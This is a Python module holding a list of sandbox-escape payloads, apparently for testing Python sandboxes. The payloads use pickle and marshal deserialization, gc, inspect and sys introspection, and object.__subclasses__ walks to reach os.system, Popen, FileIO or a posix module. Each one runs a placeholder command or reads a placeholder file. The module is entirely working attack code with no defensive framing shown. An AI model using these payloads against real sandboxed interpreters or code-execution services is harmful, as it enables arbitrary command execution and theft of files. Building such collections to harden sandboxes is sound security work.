"""Deserialization, introspection (gc, inspect, sys) and subclass walks."""

PAYLOADS = [
    ("pickle_global", "deserialization", "run_command",
     "import pickle\npickle.loads(b'cos\\nsystem\\n(V' + @C@.encode() + b'\\ntR.')"),
    ("pickle_stack_global", "deserialization", "run_command",
     "import pickle\nc = @C@.encode()\n"
     "pickle.loads(b'\\x80\\x04\\x8c\\x02os\\x8c\\x06system\\x93\\x8c' + bytes([len(c)]) + c + b'\\x85R.')"),
    ("pickle_reduce", "deserialization", "run_command",
     "import pickle\nclass R:\n    def __reduce__(self):\n        return (__import__('os').system, (@C@,))\n"
     "pickle.loads(pickle.dumps(R()))"),
    ("marshal_code", "deserialization", "run_command",
     "import marshal\nexec(marshal.loads(marshal.dumps(compile('import os; os.system(%r)' % @C@, 'x', 'exec'))))"),
    ("gc_get_objects", "introspection_gc_inspect_sys", "run_command",
     "import gc\nfor o in gc.get_objects():\n"
     "    if isinstance(o, dict) and 'system' in o and 'getcwd' in o:\n"
     "        o['system'](@C@)\n        break"),
    ("inspect_os", "introspection_gc_inspect_sys", "run_command",
     "import inspect\ninspect.os.system(@C@)"),
    ("sys_modules", "introspection_gc_inspect_sys", "run_command",
     "import sys\nsys.modules['os'].system(@C@)"),
    ("builtins_module", "introspection_gc_inspect_sys", "read_file",
     "import builtins\npwned = builtins.open(@S@).read()"),
    ("subclasses_wrap_close", "subclasses_walk", "run_command",
     "for c in ().__class__.__base__.__subclasses__():\n"
     "    if c.__name__ == '_wrap_close':\n"
     "        c.__init__.__globals__['system'](@C@)\n        break"),
    ("subclasses_popen", "subclasses_walk", "run_command",
     "for c in object.__subclasses__():\n    if c.__name__ == 'Popen':\n"
     "        c(@C@, shell=True).wait()\n        break"),
    ("subclasses_fileio", "subclasses_walk", "read_file",
     "def walk(k):\n    for s in type.__subclasses__(k):\n        yield s\n        yield from walk(s)\n"
     "for c in walk(object):\n    if c.__name__ == 'FileIO':\n"
     "        pwned = c(@S@).read().decode()\n        break"),
    ("subclasses_builtin_importer", "subclasses_walk", "run_command",
     "for c in object.__subclasses__():\n    if c.__name__ == 'BuiltinImporter':\n"
     "        c.create_module(c.find_spec('posix')).system(@C@)\n        break"),
    ("mro_subclasses", "subclasses_walk", "run_command",
     "k = (1).__class__.__mro__[-1]\n"
     "w = [c for c in k.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
     "w.close.__globals__['system'](@C@)"),
]
